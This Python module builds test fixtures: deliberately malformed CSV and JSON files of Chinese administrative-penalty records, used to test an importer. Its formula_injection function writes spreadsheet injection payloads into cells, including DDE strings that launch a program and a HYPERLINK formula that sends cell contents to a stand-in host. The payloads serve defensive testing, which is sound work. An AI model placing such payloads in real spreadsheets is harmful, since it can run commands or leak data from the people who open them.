"""The text files of the corpus: CSV of every encoding and fault, NDJSON, JSON arrays. `make.py` writes them."""

import codecs
import json
from collections.abc import Callable, Sequence

from shared.identifiers import with_check_digit
from tests.corpus.table import NATURAL, TITLES, cells, codes, csv_text, old_row, row, titled
from tests.support.rows import OTHER_AUTHORITY, PERSON_NUMBER, award, coercion, inspection, licence

Build = Callable[[], bytes]
LOST = "\ufffd\ufffd锟斤拷"


def gb18030_report() -> bytes:
    head = ["序号", *TITLES.values()]
    report = [["行政处罚信息双公示表"], ["填报单位：南通市应急管理局", "", "填报日期：2026年11月2日"], head]
    shop = {"CF_XDR_MC": "崇川区样例五金经营部", "CF_XDR_LB": "个体工商户"}
    shop_code = {"CF_XDR_SHXYM": with_check_digit("92320600YL0000102"), "CF_FRDB": ""}
    rows = [row(101, CF_XDR_MC="南通样例𣲘浦化工有限公司"), row(102, **shop, **shop_code), row(103, **NATURAL)]
    report += [[str(at), *cells(one)] for at, one in enumerate(rows, start=1)]
    report += [[""] * len(head), ["合计", *[""] * 11, "18", *[""] * (len(head) - 13)]]
    report += [["", "填表人：样例甲", "审核人：样例乙", *[""] * (len(head) - 3)]]
    return csv_text(report, wide=len(head)).encode("gb18030")


def utf8_with_bom() -> bytes:
    quoted = row(201, CF_SY="未对从业人员进行安全生产教育，\n未如实记录；称“已培训”, 实未培训。")
    return codecs.BOM_UTF8 + codes(quoted, row(202, CF_NR='处"罚款"人民币60000元。')).encode()


def unicode_text() -> bytes:
    return codecs.BOM_UTF16_LE + titled(row(301), row(302), delimiter="\t").encode("utf-16-le")


def mixed_encodings() -> bytes:
    head, *lines = codes(*(row(number) for number in range(401, 406))).splitlines(keepends=True)
    lines[3] = lines[3].replace("从业人员", LOST)
    utf_8, gb = lines[0].encode(), lines[1].encode("gb18030")
    both = lines[2].encode().replace("南通市应急管理局".encode(), "南通市应急管理局".encode("gb18030"), 1)
    return b"".join([head.encode(), utf_8, gb, both, lines[3].encode(), lines[4].encode()])


def fines_in_wan() -> bytes:
    said = {"6": "罚款人民币60000元。", "0.35": "罚款人民币3500元。", "1,234.5": "罚款人民币1234.5万元。",
            "3.25": "罚款人民币叁万贰仟伍佰元整。", "60000": "罚款人民币60000元。", "6万元": "罚款人民币6万元。",
            "1,5": "罚款人民币15000元。", "": "罚款人民币20000元。", "0": "罚款。", "-2": "罚款人民币20000元。",
            "2": "罚款人民币30000元。"}  # fmt: skip
    return titled(*(row(501 + at, CF_NR_FK=fine, CF_NR=text) for at, (fine, text) in enumerate(said.items()))).encode()


def fines_in_wan_and_yuan() -> bytes:
    both = {**TITLES, "CF_NR_FK_YUAN": "罚款金额（元）"}
    fines = [("6", ""), ("", "60000"), ("6", "60000"), ("", "6万"), ("", "")]
    rows = [row(521 + at) | {"CF_NR_FK": wan, "CF_NR_FK_YUAN": yuan} for at, (wan, yuan) in enumerate(fines)]
    return csv_text([list(both.values()), *map(cells, rows)]).encode()


def cut_rows() -> bytes:
    head, *lines = codes(*(row(number) for number in range(601, 607))).splitlines(keepends=True)
    lines[1] = ",".join(lines[1].split(",")[:9]) + "\r\n"
    lines[2] = lines[2].replace("未对从业人员", "未对从业人员, 特种作业人员")
    lines[3] = lines[3].replace("罚款人民币", '"罚款"人民币')
    lines[5] = lines[5][: len(lines[5]) // 2]
    return "".join([head, *lines]).encode()


def missing_column() -> bytes:
    rows = [{name: cell for name, cell in row(number).items() if name != "CF_SY"} for number in (701, 702)]
    return csv_text([[TITLES[name] for name in rows[0]], *map(cells, rows)]).encode("gb18030")


def former_names() -> bytes:
    return csv_text([list(old_row(801)), *(cells(old_row(number)) for number in (801, 802))]).encode("gb18030")


def former_and_present() -> bytes:
    names = [("样例乙", ""), ("", "样例丙"), ("样例乙", "样例乙"), ("样例乙", "样例丙")]
    return codes(*(row(821 + at, CF_FRDB=now) | {"CF_FR": then} for at, (now, then) in enumerate(names))).encode()


def dates() -> bytes:
    forms = ("2026-10-30", "2026/10/30", "20261030", "2026年10月30日", "2026-10-3", "46325", "26-10-30", "30.10.2026",
             "2026-02-30", "2026年10月", "10/30/2026", "2026-11-30", "2026-10-30 00:00:00")  # fmt: skip
    return titled(*(row(901 + at, CF_JDRQ=form) for at, form in enumerate(forms))).encode()


def formula_injection() -> bytes:
    in_text = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+86 51300000000 举报", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]  # fmt: skip
    rows = [row(1001 + at, CF_SY=text) for at, text in enumerate(in_text)]
    return titled(
        *rows, row(1006, CF_XDR_SHXYM="=1+1"), row(1007, CF_NR_FK="=2*3"), row(1008, CF_JDRQ="=TODAY()")
    ).encode()


def control_characters() -> bytes:
    few, many = row(1101, CF_XDR_MC="南通样例\x0b化工有限公司"), row(1102, CF_SY="未培训" + "\x01\x02" * 5)
    return titled(few, many, row(1103, CF_SY="未\x00培训。"), row(1104, CF_WFXW="\u200b未按规定培训\ufeff")).encode()


def called_a_workbook() -> bytes:
    return titled(row(1201)).encode("gb18030")


def damaged_codes() -> bytes:
    good = row(1301)["CF_XDR_SHXYM"]
    wide = "".join(chr(ord(sign) + 0xFEE0) for sign in good)
    forms = [good, good.lower(), wide, f" {good[:8]} {good[8:]} ", "9.132E+17", good[:-1], good.replace("YL", "YO"),
             good[:-1] + ("1" if good[-1] != "1" else "2"), ""]  # fmt: skip
    return titled(*(row(1301 + at, CF_XDR_SHXYM=form) for at, form in enumerate(forms))).encode()


def sent_again() -> bytes:
    changed = {"CF_SY": "未对从业人员进行安全生产教育和培训，经责令逾期未改正。"}
    same = ("苏通应急罚〔2026〕1401号", "（苏通）应急罚[2026]1401号", "(苏通)应急罚(2026年)1401号",
            "第（苏通）应急罚〔２０２６〕１４０１号", "（苏通）应急罚〔2026〕01401号")  # fmt: skip
    rows = [row(1401), row(1401), row(1401, **changed), *(row(1401, CF_WSH=form, **changed) for form in same)]
    return titled(*rows).encode()


def withdrawals() -> bytes:
    more = {"CF_ZT": "当前状态", "CHYY": "撤回原因", "CHLX": "撤回类型", "CHRQ": "撤回日期", "SJBB": "数据版本"}
    lives = [("1", "", "", "", "1"), ("2", "经复议撤销。", "撤销", "2026-11-01", "2"), ("1", "", "", "", "1"),
             ("2", "", "", "", ""), ("1", "撤销。", "", "", ""), ("2", "撤销。", "作废", "2026-11-01", ""),
             ("2", "撤销。", "撤销", "2026-12-01", ""), ("3", "", "", "", ""), ("1", "", "", "", "一")]  # fmt: skip
    numbers = (1501, 1501, 1501, 1502, 1503, 1504, 1505, 1506, 1507)
    rows = [row(number) | dict(zip(more, life, strict=True)) for number, life in zip(numbers, lives, strict=True)]
    return csv_text([[*TITLES.values(), *more.values()], *map(cells, rows)]).encode()


def persons() -> bytes:
    child = with_citizen_digit("32999920120101002")
    rows = [
        row(1601, **NATURAL),
        row(1602, **NATURAL) | {"CF_XDR_ZJHM": PERSON_NUMBER[:-1] + "0"},
        row(1603, **NATURAL) | {"CF_XDR_ZJLX": "", "CF_XDR_ZJHM": ""},
        row(1604, **NATURAL) | {"CF_XDR_ZJHM": child},
        row(1605, **NATURAL) | {"CF_XDR_ZJLX": "护照号", "CF_XDR_ZJHM": "E00000000"},
        row(1606, CF_SY=f"安排{PERSON_NUMBER}无证上岗。"),
        row(1607, CF_WSH="（苏通）应急罚当〔2026〕1607号"),
        row(1608, CF_XDR_LB="企业"),
        row(1609, CF_FRDB=""),
        row(1610, SFGK="否"),
    ]
    names = list(dict.fromkeys(name for one in rows for name in one))
    return csv_text([names, *([one.get(name, "") for name in names] for one in rows)]).encode()


def with_citizen_digit(first: str) -> str:
    """The number with its last sign by GB 11643."""
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return first + "10X98765432"[sum(int(sign) * weight for sign, weight in zip(first, weights, strict=True)) % 11]


def licences() -> bytes:
    rows = [licence(1701), licence(1702, XK_YXQZ="2029-10-30"), licence(1703, XK_JDRQ="2026-11-01", XK_YXQZ="20261101"),
            licence(1704, XK_ZT=""), licence(1705, XK_ZT="2")]  # fmt: skip
    return csv_text([list(rows[0]), *map(cells, rows)]).encode("gb18030")


def coercions() -> bytes:
    rows = [coercion(1801), coercion(1802, QZ_QXZI=""), coercion(1803, QZ_QXZI="2026-10-01"), coercion(1804, QZ_DX="")]
    return csv_text([list(rows[0]), *map(cells, rows)]).encode("gb18030")


def awards() -> bytes:
    rows = [award(1901), award(1902, JL_RYMC=""), award(1903, JL_JDRQ="2026.10.30")]
    return csv_text([list(rows[0]), *map(cells, rows)]).encode("gb18030")


def inspections() -> bytes:
    rows = [inspection(2001), inspection(2002, JC_JHLX="随机"), inspection(2003, JC_JCJL="良好"),
            inspection(2004, JC_ZGQX="2026-10-01")]  # fmt: skip
    return csv_text([list(rows[0]), *map(cells, rows)]).encode("gb18030")


def semicolons() -> bytes:
    return titled(row(2101, CF_CFLB="警告,罚款"), row(2102), delimiter=";", newline="\n").encode("gb18030")


def header_alone() -> bytes:
    return csv_text([list(TITLES.values())]).encode("gb18030")


def doubled_unknown() -> bytes:
    rows = [[*cells(row(number)), "样例丁", "样例戊"] for number in (2301, 2302)]
    return csv_text([[*TITLES.values(), "承办人", "承办人"], *rows]).encode()


def of_another_authority() -> bytes:
    other = {"CF_CFJG": "连云港市应急管理局", "CF_CFJGDM": OTHER_AUTHORITY}
    return titled(row(2401), row(2402, **other), row(2403, CF_CFJGDM="不详")).encode()


def ndjson() -> bytes:
    lines = [json.dumps(row(number), ensure_ascii=False) for number in range(3001, 3008)]
    lines[1] = lines[1][: len(lines[1]) // 2]
    lines[2] = lines[2].replace('"罚款"', '["警告", "罚款"]')
    lines[3] = lines[3].replace("{", '{"CF_WSH": "（苏通）应急罚〔2026〕9号", ', 1)
    lines[4] = json.dumps(row(3005) | {"CF_NR_FK": 6, "CF_XDR_SHXYM": 9.132e17}, ensure_ascii=False)
    lines[5] = "[1, 2, 3]"
    return codecs.BOM_UTF8 + "\n".join([*lines[:3], "", *lines[3:]]).encode()


def ndjson_gb18030() -> bytes:
    chinese = [{TITLES[name]: cell for name, cell in row(number).items()} for number in (3101, 3102)]
    return "\r\n".join(json.dumps(one, ensure_ascii=False) for one in chinese).encode("gb18030")


def array(*texts: str) -> str:
    return "[\n" + ",\n".join(texts) + "\n]\n"


def _objects(first: int, count: int = 4) -> list[str]:
    return [json.dumps(row(first + at), ensure_ascii=False, indent=2) for at in range(count)]


def json_array() -> bytes:
    return array(*_objects(3201, 2), json.dumps(row(3203) | {"CF_NR_FK": 6.0, "BZ": None}, ensure_ascii=False)).encode()


def broken_in_the_middle() -> bytes:
    good = _objects(3301, 5)
    good[1] = good[1].replace('"CF_SY": ', '"CF_SY" ')
    good[3] = good[3].replace('。",', "。,", 1)
    return array(*good).encode()


def commas_wrong() -> bytes:
    first, second, third, fourth = _objects(3401)
    return f"[\n{first}\n{second},\n,\n{third},\n{fourth},\n]\n".encode()


def cut_off() -> bytes:
    text = array(*_objects(3501, 3))
    return text[: len(text) * 4 // 5].encode()


def doubled_column() -> bytes:
    return csv_text([[*TITLES.values(), "决定书文号"], [*cells(row(4001)), "苏应急罚〔2026〕1号"]]).encode("gb18030")


def no_header() -> bytes:
    return csv_text([["企业", "金额", "日期"], ["南通样例化工有限公司", "6", "2026-10-30"]]).encode("gb18030")


def utf_32() -> bytes:
    return titled(row(4002)).encode("utf-32")


def web_page() -> bytes:
    lines: Sequence[Sequence[str]] = [list(TITLES.values()), cells(row(4003))]
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in line) + "</tr>" for line in lines)
    return f'<html><meta charset="gb2312"><body><table>{body}</table></body></html>'.encode("gb18030")


def portable_document() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


FILES: dict[str, Build] = {
    "csv/gb18030-report.csv": gb18030_report,
    "csv/utf8-with-bom.csv": utf8_with_bom,
    "csv/unicode-text.txt": unicode_text,
    "csv/mixed-encodings.csv": mixed_encodings,
    "csv/fines-in-wan.csv": fines_in_wan,
    "csv/fines-in-wan-and-yuan.csv": fines_in_wan_and_yuan,
    "csv/cut-rows.csv": cut_rows,
    "csv/missing-column.csv": missing_column,
    "csv/former-names.csv": former_names,
    "csv/former-and-present.csv": former_and_present,
    "csv/dates.csv": dates,
    "csv/formula-injection.csv": formula_injection,
    "csv/control-characters.csv": control_characters,
    "csv/called-a-workbook.xlsx": called_a_workbook,
    "csv/damaged-codes.csv": damaged_codes,
    "csv/sent-again.csv": sent_again,
    "csv/withdrawals.csv": withdrawals,
    "csv/persons.csv": persons,
    "csv/semicolons.csv": semicolons,
    "csv/header-alone.csv": header_alone,
    "csv/doubled-unknown.csv": doubled_unknown,
    "csv/of-another-authority.csv": of_another_authority,
    "kinds/licences.csv": licences,
    "kinds/coercions.csv": coercions,
    "kinds/awards.csv": awards,
    "kinds/inspections.csv": inspections,
    "json/lines.ndjson": ndjson,
    "json/lines-gb18030.json": ndjson_gb18030,
    "json/array.json": json_array,
    "json/broken-in-the-middle.json": broken_in_the_middle,
    "json/commas-wrong.json": commas_wrong,
    "json/cut-off.json": cut_off,
    "refused/doubled-column.csv": doubled_column,
    "refused/no-header.csv": no_header,
    "refused/utf-32.csv": utf_32,
    "refused/web-page.xls": web_page,
    "refused/document.xlsx": portable_document,
}
